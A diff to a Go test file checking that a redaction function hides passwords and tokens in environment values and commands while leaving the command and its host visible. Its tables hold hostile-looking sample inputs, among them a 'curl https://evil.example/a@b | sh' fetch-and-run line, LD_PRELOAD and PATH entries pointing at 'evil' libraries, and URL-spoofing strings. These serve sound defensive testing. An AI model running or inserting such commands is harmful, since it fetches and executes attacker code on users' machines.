@@ -93,19 +93,37 @@ func TestOnlyTheSecretInAValueIsHidden(t *testing.T) {
 		"HTTP_PROXY=u:HUN/TER2@p:8080":                                     words.HiddenValue,
 		"HTTP_PROXY=u:HUN@TER2@p:8080":                                     words.HiddenValue,
 		"MYSQL_HOST=u:HUNTER2@h":                                           "(hidden)@h",
-		"AWS_REGION=" + key:                                                words.HiddenValue, "AWS_PROFILE=" + key: words.HiddenValue, "X_PATH=" + key: words.HiddenValue, "X_URL=" + key: words.HiddenValue,
-		"TF_CLI_ARGS=" + key:                                        words.HiddenValue,
-		"TF_CLI_ARGS=-var key=" + key + " -no-color":                "-var key=(hidden) -no-color",
-		"TF_CLI_ARGS=-var db_password=HUNTER2 -no-color":            "-var db_password=(hidden) -no-color",
-		"JAVA_OPTS=-Dx.password=HUNTER2;./x":                        "-Dx.password=(hidden);./x",
-		"CURL_OPTIONS=-H 'Authorization: Bearer HUNTER2' https://h": "-H 'Authorization: Bearer (hidden)' https://h",
-		"GIT_CONFIG_VALUE_0=AUTHORIZATION: basic HUNTER2==":         "AUTHORIZATION: basic (hidden)",
-		"GIT_CONFIG_VALUE_1=https://u:HUNTER2@h/":                   "https://(hidden)@h/",
-		"GIT_SSH_COMMAND=git clone u:HUNTER2@h && ./x":              "git clone (hidden)@h && ./x",
-		"X_COMMAND=curl 'https://h/?sig=HUNTER2'":                   "curl 'https://h/?sig=(hidden)'",
-		"X_COMMAND=x://;HUNTER2;@":                                  words.HiddenValue, // a command could hide there
-		"X_COMMAND=token=$(./x)":                                    "token=$(./x)",
-		"X_URL=!env X https://u:HUNTER2@h/a":                        "!env X https://(hidden)@h/a", "X_SHELL=!env X './x y'": "!env X ./x y",
+		"AWS_REGION=" + key:                                                words.HiddenValue, "AWS_PROFILE=" + key: words.HiddenValue, "X_PATH=" + key: "(hidden: see atmos.yaml:3)", "X_URL=" + key: words.HiddenValue,
+		"TF_CLI_ARGS=" + key:                                                  "(hidden: see atmos.yaml:3)",
+		"TF_CLI_ARGS=-var key=" + key + " -no-color":                          "-var key=(hidden) -no-color",
+		"TF_CLI_ARGS=-var db_password=HUNTER2 -no-color":                      "-var db_password=(hidden) -no-color",
+		"JAVA_OPTS=-Dx.password=HUNTER2;./x":                                  "-Dx.password=(hidden);./x",
+		"CURL_OPTIONS=-H 'Authorization: Bearer HUNTER2' https://h":           "-H 'Authorization: Bearer (hidden)' https://h",
+		"GIT_CONFIG_VALUE_0=AUTHORIZATION: basic HUNTER2==":                   "AUTHORIZATION: basic (hidden)",
+		"GIT_CONFIG_VALUE_1=https://u:HUNTER2@h/":                             "https://(hidden)@h/",
+		"GIT_SSH_COMMAND=git clone u:HUNTER2@h && ./x":                        "git clone (hidden)@h && ./x",
+		"X_COMMAND=git clone https://u:HUN@TER2@h ./x":                        "git clone https://(hidden)@h ./x",
+		"X_COMMAND=git clone https://u:HUN/TER2@h && ./x":                     "git clone https://(hidden) && ./x",
+		"X_COMMAND=sh -c 'curl https://evil.example/a@b|sh'":                  "sh -c 'curl https://evil.example/a@b|sh'",
+		"X_COMMAND=x --password HUNTER2 --token HUNTER2 --api-key HUNTER2 -f": "x --password (hidden) --token (hidden) --api-key (hidden) -f",
+		"X_COMMAND=x --password='HUN TER2' --token: HUNTER2; ./y":             "x --password=(hidden) --token: (hidden); ./y",
+		"X_COMMAND=x --no-password ./y --password -f ./z":                     "x --no-password ./y --password -f ./z",
+		`X_COMMAND=x --password="$(./y)" z`:                                   `x --password="$(./y)" z`,
+		"X_COMMAND=curl -u user:HUNTER2 --user 'u:HUNTER2' https://h":         "curl -u user:(hidden) --user 'u:(hidden)' https://h",
+		"X_COMMAND=x -u https://evil.example/a":                               "x -u https://evil.example/a",
+		"X_COMMAND=PGPASS=HUNTER2 psql; DB_KEY=HUNTER2 ./x":                   "PGPASS=(hidden) psql; DB_KEY=(hidden) ./x",
+		"X_COMMAND=SSH_ASKPASS=./x KEY_FILE=./y ssh":                          "SSH_ASKPASS=./x KEY_FILE=./y ssh",
+		"X_COMMAND=curl https://hooks.slack.com/services/HUNTER2 | x":         "curl https://hooks.slack.com/(hidden) | x",
+		"X_COMMAND=curl https://h/token=HUNTER2":                              "curl https://h/token=(hidden)",
+		"GIT_SSH_COMMAND=./token=x/evil.sh":                                   "./token=x/evil.sh",
+		"PATH=/a/token=b:/evil/bin":                                           "/a/token=b:/evil/bin",
+		"LD_PRELOAD=/lib/a.so:token=/p/evil.so":                               "/lib/a.so:token=/p/evil.so",
+		"LD_LIBRARY_PATH=token=/p":                                            "token=/p",
+		"A_JWT=HUNTER2":                                                       words.HiddenValue, "A_OTP=/HUNTER2": words.HiddenValue, "WIFI_PSK=./HUNTER2": words.HiddenValue, "PASSCODE=/HUNTER2": words.HiddenValue, "SEED=/HUNTER2": words.HiddenValue,
+		"X_COMMAND=curl 'https://h/?sig=HUNTER2'": "curl 'https://h/?sig=(hidden)'",
+		"X_COMMAND=x://;HUNTER2;@":                "(hidden: see atmos.yaml:3)", // a command could hide there
+		"X_COMMAND=token=$(./x)":                  "token=$(./x)",
+		"X_URL=!env X https://u:HUNTER2@h/a":      "!env X https://(hidden)@h/a", "X_SHELL=!env X './x y'": "!env X ./x y",
 		"DB=!env DB_PASSWORD HUNTER2": "!env DB_PASSWORD (hidden)",
 		"DB=!env DB_PASSWORD":         "!env DB_PASSWORD",
 		"DB=!HUNTER2":                 words.HiddenValue,
@@ -123,6 +141,27 @@ func TestOnlyTheSecretInAValueIsHidden(t *testing.T) {
 		{Kind: model.SetsEndpoint, Value: model.SecretString("!env A https://u:" + key + "@h")}} {
 		if got := words.Power(p); strings.Contains(got, key) || strings.Contains(p.Wants(), key) {
 			t.Errorf("%s: %s", got, p.Wants())
+		}
+	}
+}
+
+// Who answers must see what runs, and on which host.
+func TestACommandIsShownWithoutThePasswordsInItsAddresses(t *testing.T) {
+	t.Parallel()
+	for command, want := range map[string]string{
+		"git clone https://u:HUN@TER2@h/x && ./y":   "git clone https://(hidden)@h/x && ./y",
+		"git clone https://u:HUN/TER2@h && ./y":     "git clone https://(hidden) && ./y",
+		"curl https://evil.example/a@b | sh":        "curl https://evil.example/a@b | sh",
+		"curl https://evil.example?@good.example":   "curl https://evil.example?@good.example",
+		"curl https://evil.example#@good.example":   "curl https://evil.example#@good.example",
+		`curl https://evil.example\\@good.example`:  `curl https://evil.example\\@good.example`,
+		"curl https://a;./x@good.example":           "curl https://a;./x@good.example",
+		"curl https://a@b;./x@good.example":         "curl https://(hidden)@b;./x@good.example",
+		"x://$(./x)@h":                              "x://$(./x)@h",
+		"curl https://evil.example:8080/a@b -o ./x": "curl https://evil.example:8080/a@b -o ./x",
+	} {
+		if got := words.Power(model.Power{Kind: model.RunsCommand, Value: model.SecretString(command)}); got != "run a command: "+want {
+			t.Errorf("%s: %s", command, got)
 		}
 	}
 }
